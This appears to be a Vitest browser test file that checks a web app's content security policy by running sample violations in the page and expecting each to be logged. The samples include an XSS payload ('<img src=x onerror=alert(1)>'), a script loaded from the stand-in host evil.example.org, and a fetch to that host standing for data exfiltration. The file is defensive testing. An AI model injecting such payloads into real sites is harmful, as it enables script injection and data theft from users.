/** The page's policy holds in a real browser. A test fails when its page logs a fault. */
import { expect, inject, vi } from 'vitest';
import { launchChromium } from './support/chromium.ts';
import { watchFaults } from './support/faults.ts';
import { test } from './support/visitors.ts';

test('the app starts without a violation', async ({ visit }) => {
  const { page } = await visit();
  const answer = await page.goto('/');
  expect(answer?.status()).toBe(200);
  expect(answer?.headers()['content-encoding']).toBe('br');
  await page.getByRole('textbox', { name: 'Username' }).waitFor();
});

const ATTACKS: [string, () => void, RegExp][] = [
  ['an exception', () => void setTimeout(() => JSON.parse('{')), /exception: SyntaxError/],
  ['an error in the console', () => console.error('on fire'), /console: on fire/],
  ['an inline style', () => document.body.setAttribute('style', 'color: red'), /policy: style-src/],
  [
    'a script of another site',
    () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.example.org/x.js');
      document.body.append(script);
    },
    /policy: (?:script-src|require-trusted-types-for)/,
  ],
  [
    'text that becomes HTML',
    () => {
      document.body.innerHTML = '<img src=x onerror=alert(1)>';
    },
    /policy: require-trusted-types-for|exception: TypeError/,
  ],
  [
    'data sent elsewhere',
    () => void fetch('https://evil.example.org/').catch(() => {}),
    /policy: connect-src/,
  ],
  ['a request that fails', () => void fetch('/nothing/here').catch(() => {}), /console: .*404/],
];

test.for(ATTACKS)('%s fails a test', async ([, attack, complaint], { browser }) => {
  const context = await browser.newContext({ baseURL: inject('productUrl') });
  const faults = await watchFaults(context);
  const page = await context.newPage();
  await page.goto('/');
  await page.evaluate(attack).catch(() => {});
  await vi.waitFor(() => expect(() => faults.verify()).toThrow(complaint));
  faults.expect(complaint);
  await context.close();
});

test('CHROME_PATH says which browser to use', async () => {
  const before = process.env.CHROME_PATH;
  process.env.CHROME_PATH = '/no/such/chrome';
  await expect(launchChromium()).rejects.toThrow('/no/such/chrome');
  if (before === undefined) delete process.env.CHROME_PATH;
  else process.env.CHROME_PATH = before;
});
